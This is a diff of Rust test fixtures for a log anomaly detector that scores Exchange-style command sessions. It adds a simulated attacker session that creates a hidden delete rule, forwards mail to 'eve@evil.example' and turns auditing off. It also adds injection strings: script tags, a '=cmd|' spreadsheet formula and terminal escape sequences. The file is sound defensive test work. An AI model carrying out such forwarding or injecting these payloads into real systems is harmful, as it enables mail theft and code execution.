@@ -1,8 +1,8 @@
 //! Small logs for the tests.
 
 use oddwalk_core::{
-    Chain, Counts, Entities, Event, EventLog, Findings, Score, ScoreOptions, SessionText, Sessions, Span,
-    score,
+    Counts, Entities, Event, EventLog, Explanation, Findings, Model, Modellable, Parameters, Score,
+    ScoreOptions, Scorer, SessionKind, SessionText, Sessions, Span, Uncapped,
 };
 
 use crate::{Columns, Row};
@@ -15,36 +15,55 @@ const BEGIN: i64 = 1_587_185_430 * SECOND;
 pub(crate) struct Sample {
     log: EventLog,
     sessions: Sessions,
+    model: Model,
+    options: ScoreOptions,
     scores: Vec<Score>,
 }
 
 /// One session: its entity, its commands, and its beginning in seconds after [`BEGIN`].
 type Walk<'a> = (&'a [Option<&'a str>], &'a [&'a str], Option<i64>);
 
+/// A command and its parameters with their values.
+pub(crate) type Call<'a> = (&'a str, &'a [(&'a str, Option<&'a str>)]);
+
+/// One session with parameters.
+pub(crate) type CallWalk<'a> = (&'a [Option<&'a str>], Vec<Call<'a>>, Option<i64>);
+
+/// How a log is learnt from and scored.
+#[derive(Clone)]
+pub(crate) struct Method {
+    pub(crate) kind: SessionKind,
+    pub(crate) options: ScoreOptions,
+    /// How many of the sessions are learnt from; the others come from another time.
+    pub(crate) learnt: usize,
+}
+
+impl Method {
+    /// Windows of 3, learnt from every session.
+    pub(crate) fn of(kind: SessionKind) -> Self {
+        Self { kind, options: ScoreOptions::new(3).unwrap(), learnt: usize::MAX }
+    }
+}
+
 impl Sample {
     /// Sessions of these entity columns, 36.25 s between events; windows have 3.
     pub(crate) fn new(columns: &[&str], walks: &[Walk]) -> Self {
-        const STEP: i64 = 36_250_000_000;
-        let columns = columns.iter().map(|&name| name.to_owned()).collect();
-        let mut log = EventLog::new(Entities::new(columns, vec![0]));
-        log.start_file("logs/exchange.csv");
-        let (mut ends, mut spans) = (Vec::new(), Vec::new());
-        for (values, commands, begin) in walks {
-            let begin = begin.map(|begin| BEGIN + begin * SECOND);
-            let entity = log.entities_mut().intern(values);
-            for command in *commands {
-                let command = log.commands_mut().intern(command);
-                let row = log.len() as u32 + 1;
-                log.push(Event { entity, time: begin.unwrap_or(0), command, row }).unwrap();
-            }
-            ends.push(log.len() as u32);
-            let length = commands.iter().skip(1).map(|_| STEP).sum::<i64>();
-            spans.push(begin.map(|begin| Span { begin, end: begin + length }));
-        }
-        let sessions = Sessions::given(&log, &ends, &spans);
-        let chain = Chain::fit(&Counts::of(&sessions, log.commands().symbol_count()));
-        let scores = score(&chain, &sessions, &ScoreOptions::new(3).unwrap());
-        Self { log, sessions, scores }
+        let walks: Vec<CallWalk> = walks
+            .iter()
+            .map(|(values, commands, begin)| {
+                (*values, commands.iter().map(|&command| (command, &[][..])).collect(), *begin)
+            })
+            .collect();
+        Self::with(columns, &walks, &Method::of(SessionKind::Commands))
+    }
+
+    pub(crate) fn with(columns: &[&str], walks: &[CallWalk], method: &Method) -> Self {
+        let (log, sessions) = log(columns, walks);
+        let (learnt, learnt_sessions) = self::log(columns, &walks[..walks.len().min(method.learnt)]);
+        let counts = Counts::of(&learnt, &learnt_sessions, method.kind);
+        let model = Model::fit(counts, Modellable::Categories);
+        let scores = Scorer::new(&model, &log, &sessions).score(&method.options);
+        Self { log, sessions, model, options: method.options, scores }
     }
 
     pub(crate) fn empty() -> Self {
@@ -81,6 +100,39 @@ impl Sample {
         )
     }
 
+    /// Mailboxes in their routine, and one session that sends mail elsewhere.
+    pub(crate) fn mailboxes(method: &Method) -> Self {
+        let admin = [Some("admin@contoso.com"), Some("10.0.0.7")];
+        let other = [Some("kim@contoso.com"), Some("20.150.1.2")];
+        let set: Call = ("Set-Mailbox", &[("Identity", Some("a")), ("AuditEnabled", Some("True"))]);
+        let cas: Call = ("Set-CASMailbox", &[("Identity", Some("a")), ("ImapEnabled", Some("False"))]);
+        let rule: Call =
+            ("New-InboxRule", &[("Name", Some("x")), ("Mailbox", Some("a")), ("MoveToFolder", Some("b"))]);
+        let change: Call = ("Set-InboxRule", &[("Identity", Some("x")), ("Mailbox", Some("a"))]);
+        let hide: Call = (
+            "New-InboxRule",
+            &[("Name", Some(".")), ("Mailbox", Some("a")), ("DeleteMessage", Some("True"))],
+        );
+        let forward: Call = (
+            "Set-Mailbox",
+            &[
+                ("ForwardingSmtpAddress", Some("smtp:eve@evil.example")),
+                ("AuditEnabled", Some("False")),
+                ("DeliverToMailboxAndForward", Some("True")),
+            ],
+        );
+        let mut walks: Vec<CallWalk> = Vec::new();
+        for day in 0..30 {
+            walks.push((&admin, vec![set, cas, set, cas], Some(day * 86_400)));
+            if day % 3 == 0 {
+                walks.push((&other, vec![rule, change, rule, change], Some(day * 86_400 + 600)));
+            }
+        }
+        walks.push((&other, vec![rule, hide, forward, cas, ("Get-Mailbox", &[])], Some(1_000_000)));
+        walks.push((&other, vec![("Get-Mailbox", &[])], Some(2_000_000)));
+        Self::with(&["UserId", "ClientIP"], &walks, method)
+    }
+
     /// What an attacker would write into a log, columns that collide, sessions without times or a score.
     pub(crate) fn hostile() -> Self {
         let script = [Some("<script>alert(1)</script>"), Some("=cmd|'/C calc'!A0"), Some("")];
@@ -96,8 +148,39 @@ impl Sample {
         )
     }
 
+    /// The same in parameters, which the model of the first session has not seen.
+    pub(crate) fn hostile_parameters() -> Self {
+        let user = [Some("\u{1b}]0;owned\u{7}")];
+        let plain: Call = ("Set", &[("A", Some("1"))]);
+        let odd: Call =
+            ("Set", &[("A", Some("</td><script>")), ("\u{202e}B\u{1b}[2J", Some("\u{9b}31m")), ("", None)]);
+        let method = Method { learnt: 1, ..Method::of(SessionKind::Values) };
+        let first = vec![plain; 30];
+        let second = vec![("Set\u{1b}[1m`\r\n", plain.1), odd, ("<img src=x>", &[("=x", None)])];
+        Self::with(&["user"], &[(&user, first, Some(0)), (&user, second, Some(9_000))], &method)
+    }
+
     pub(crate) fn findings(&self) -> Findings<'_> {
         Findings::rank(&self.log, &self.sessions, &self.scores)
+    }
+
+    /// The explanations of the rarest windows by rank.
+    pub(crate) fn explanations(&self) -> Vec<Explanation<'_>> {
+        let scorer = Scorer::new(&self.model, &self.log, &self.sessions);
+        let findings = self.findings();
+        let explained = findings
+            .iter()
+            .map(|finding| scorer.explain_window(&finding.session.session, &finding.score, &self.options));
+        explained.collect()
+    }
+
+    /// The explanations of the whole sessions by rank.
+    pub(crate) fn whole_explanations(&self) -> Vec<Explanation<'_>> {
+        let scorer = Scorer::new(&self.model, &self.log, &self.sessions);
+        let findings = self.findings();
+        let explained =
+            findings.iter().map(|finding| scorer.explain_session(&finding.session.session, &self.options));
+        explained.collect()
     }
 
     pub(crate) fn rows(&self) -> impl Iterator<Item = Row<'_>> + Clone {
@@ -107,4 +190,28 @@ impl Sample {
     pub(crate) fn columns(&self, ranked: bool) -> Columns {
         Columns::new(self.findings().entity_columns(), ranked)
     }
+}
+
+fn log(columns: &[&str], walks: &[CallWalk]) -> (EventLog, Sessions) {
+    const STEP: i64 = 36_250_000_000;
+    let columns = columns.iter().map(|&name| name.to_owned()).collect();
+    let mut log =
+        EventLog::new(Entities::new(columns, vec![0])).with_parameters(Parameters::new(Uncapped::None));
+    log.start_file("logs/exchange.csv");
+    let (mut ends, mut spans) = (Vec::new(), Vec::new());
+    for (values, calls, begin) in walks {
+        let begin = begin.map(|begin| BEGIN + begin * SECOND);
+        let entity = log.entities_mut().intern(values);
+        for (command, parameters) in calls {
+            let command = log.commands_mut().intern(command);
+            let row = log.len() as u32 + 1;
+            log.push(Event { entity, time: begin.unwrap_or(0), command, row }).unwrap();
+            log.parameters_mut().unwrap().push(parameters.iter().copied());
+        }
+        ends.push(log.len() as u32);
+        let length = calls.iter().skip(1).map(|_| STEP).sum::<i64>();
+        spans.push(begin.map(|begin| Span { begin, end: begin + length }));
+    }
+    let sessions = Sessions::given(&log, &ends, &spans);
+    (log, sessions)
 }
